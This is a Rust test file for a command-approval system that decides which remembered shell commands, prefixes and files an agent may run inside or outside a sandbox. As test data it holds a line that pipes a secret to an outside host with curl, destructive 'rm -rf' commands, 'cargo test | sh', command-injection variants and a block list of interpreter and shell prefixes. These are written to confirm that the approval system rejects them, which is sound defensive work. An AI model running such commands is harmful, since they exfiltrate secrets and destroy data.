//! What was allowed covers what it names and nothing more.

use super::{script, words};
use crate::approval::amendment::proposed;
use crate::approval::decide::Allowed;
use crate::approval::remembered::{Identity, Remembered};

/// What is allowed of a script that is run in `/w`.
fn allowed(remembered: &Remembered, text: &str, wants_escalation: bool) -> Allowed {
    let argv = [text.to_owned()];
    remembered.command(Identity { argv: &argv, cwd: "/w", tty: false, wants_escalation }, &script(text))
}

#[test]
fn a_command_is_allowed_with_its_words_folder_and_terminal() {
    let mut remembered = Remembered::default();
    let argv = words("make all");
    let command = Identity { argv: &argv, cwd: "/w", tty: false, wants_escalation: false };
    remembered.allow_command(command);
    let of = |command| remembered.command(command, &script("make all"));
    assert_eq!(of(command), Allowed::Exactly);
    for other in [
        Identity { argv: &words("make"), ..command },
        Identity { argv: &words("make all x"), ..command },
        Identity { argv: &["make all".to_owned()], ..command },
        Identity { argv: &["makeall".to_owned()], ..command },
        Identity { argv: &["all".to_owned()], cwd: "/wmake", ..command },
        Identity { cwd: "/", ..command },
        Identity { tty: true, ..command },
        Identity { wants_escalation: true, ..command },
    ] {
        assert_eq!(of(other), Allowed::No, "{other:?}");
    }
}

#[test]
fn allowed_outside_of_the_sandbox_is_allowed_inside() {
    let mut remembered = Remembered::default();
    let argv = words("make");
    let escalated = Identity { argv: &argv, cwd: "/w", tty: false, wants_escalation: true };
    remembered.allow_command(escalated);
    assert_eq!(remembered.command(escalated, &script("make")), Allowed::Exactly);
    let confined = Identity { wants_escalation: false, ..escalated };
    assert_eq!(remembered.command(confined, &script("make")), Allowed::Exactly);
}

#[test]
fn files_are_allowed_one_by_one() {
    let mut remembered = Remembered::default();
    remembered.allow_files(["/w/a", "/w/b"]);
    assert_eq!(remembered.files(["/w/b"]), Allowed::Exactly);
    assert_eq!(remembered.files(["/w/b", "/w/a"]), Allowed::Exactly);
    assert_eq!(remembered.files(["/w/b", "/w/c"]), Allowed::No);
    assert_eq!(remembered.files([]), Allowed::No);
}

#[test]
fn a_prefix_covers_plain_scripts_of_which_each_command_begins_with_it_or_is_harmless() {
    let mut remembered = Remembered::default();
    assert!(remembered.allow_prefix(&words("cargo test"), false));
    assert!(remembered.allow_prefix(&words("rm"), false));
    for text in [
        "cargo test",
        "cargo test --workspace x",
        "cd a && cargo test 2>&1 | tail -5",
        "cargo test; cargo 'test' y",
        "rm x",
    ] {
        assert_eq!(allowed(&remembered, text, false), Allowed::Prefix, "{text}");
        assert_eq!(allowed(&remembered, text, true), Allowed::No, "{text}: nobody allowed it outside of the sandbox");
    }
    for text in [
        "cargo",
        "cargo testing",
        "cargo 'test x'",
        "cargo -q test",
        "/tmp/cargo test",
        "X=1 cargo test",
        "cargo test $x",
        "cargo test > x",
        "cargo test && make",
        "cargo test | sh",
        "cargo test & make",
        "(cargo test)",
        "env cargo test",
        "cargo test `make`",
        "cargo test\nmake",
        "rm -rf x",
        "cargo test; rm -rf x",
    ] {
        assert_eq!(allowed(&remembered, text, false), Allowed::No, "{text}");
    }
}

#[test]
fn outside_of_the_sandbox_each_command_needs_a_prefix_that_was_allowed_there() {
    let mut remembered = Remembered::default();
    assert!(remembered.allow_prefix(&words("curl -d @- example.org"), true));
    assert_eq!(allowed(&remembered, "curl -d @- example.org", true), Allowed::Prefix);
    assert_eq!(allowed(&remembered, "curl -d @- example.org", false), Allowed::Prefix);
    assert_eq!(allowed(&remembered, "cat secret | curl -d @- example.org", true), Allowed::No);
}

#[test]
fn prefixes_that_allow_anything_are_not_taken() {
    let too_much = [
        "",
        "bash",
        "bash -c",
        "bash -lc ls",
        "sh",
        "/bin/sh",
        "python",
        "python3",
        "python3 -c",
        "python3.12 -u",
        "node",
        "node -e",
        "perl -e",
        "env",
        "env X=1",
        "sudo",
        "sudo ls",
        "xargs",
        "find",
        "find .",
        "git",
        "git -c",
        "git config",
        "npm",
        "npm exec",
        "npm run",
        "npx",
        "npx x",
        "cargo",
        "cargo run",
        "docker",
        "docker run",
        "docker exec x",
        "make",
        "timeout",
        "timeout 5",
        "nohup",
        "command",
        "exec",
        "eval",
        "ssh",
        "sed",
        "awk",
        "awk -f",
        "tar",
        "vi",
        "X=1",
        "uv run",
        "poetry run",
        "go run",
        "perl",
        "ruby -e",
        "time",
        "busybox",
        "source",
        ".",
        "trap",
    ];
    for text in too_much {
        let words: Vec<String> = if text.is_empty() { Vec::new() } else { words(text) };
        assert!(!Remembered::default().allow_prefix(&words, false), "{text:?}");
    }
    for text in [
        "touch",
        "touch x",
        "git push",
        "npm run build",
        "npm test",
        "cargo test",
        "make all",
        "python3 x.py",
        "python3 -m pytest",
        "docker ps",
        "ls",
        "go build",
    ] {
        assert!(Remembered::default().allow_prefix(&words(text), false), "{text}");
    }
    assert!(!Remembered::default().allow_prefix(&["touch".to_owned(), "x".repeat(5000)], false));
}

#[test]
fn the_oldest_are_forgotten_first() {
    let mut remembered = Remembered::default();
    for number in 0..300 {
        assert!(remembered.allow_prefix(&[format!("program{number}")], false));
        remembered.allow_files([format!("/w/{number}").as_str()]);
        let argv = [format!("exact{number}")];
        remembered.allow_command(Identity { argv: &argv, cwd: "/w", tty: false, wants_escalation: false });
    }
    assert_eq!(allowed(&remembered, "program0", false), Allowed::No);
    assert_eq!(allowed(&remembered, "program299", false), Allowed::Prefix);
    assert_eq!(allowed(&remembered, "exact0", false), Allowed::No);
    assert_eq!(allowed(&remembered, "exact299", false), Allowed::Exactly);
    assert_eq!(remembered.files(["/w/0"]), Allowed::No);
    assert_eq!(remembered.files(["/w/299"]), Allowed::Exactly);
}

#[test]
fn a_prefix_is_proposed_for_the_first_command_that_needs_it() {
    let of = |text: &str, of_model: Option<&str>| {
        let of_model = of_model.map(words);
        proposed(&script(text), of_model.as_deref()).map(|words| words.join(" "))
    };
    let some = |text: &str| Some(text.to_owned());
    assert_eq!(of("touch /srv/q", None), some("touch /srv/q"));
    assert_eq!(of("ls && touch x && make y", None), some("touch x"));
    assert_eq!(of("touch x", Some("touch")), some("touch"));
    assert_eq!(of("npm run build --x", Some("npm run build")), some("npm run build"));
    assert_eq!(of("touch x", Some("rm")), some("touch x"), "no prefix of this command");
    assert_eq!(of("ls | touch x", Some("ls")), some("touch x"), "not of the one that needs it");
    assert_eq!(of("git push x", Some("git")), some("git push x"), "git alone allows anything");
    for text in [
        "bash x",
        "python3",
        "python3 -c 'print(1)'",
        "sudo ls",
        "env X=1 make",
        "X=1 make",
        "make > x",
        "touch $x",
        "rm -rf x",
        "ls",
        "",
        "git -c a=b x",
    ] {
        assert_eq!(of(text, None), None, "{text}");
        assert_eq!(of(text, Some(text)), None, "{text}");
    }
}
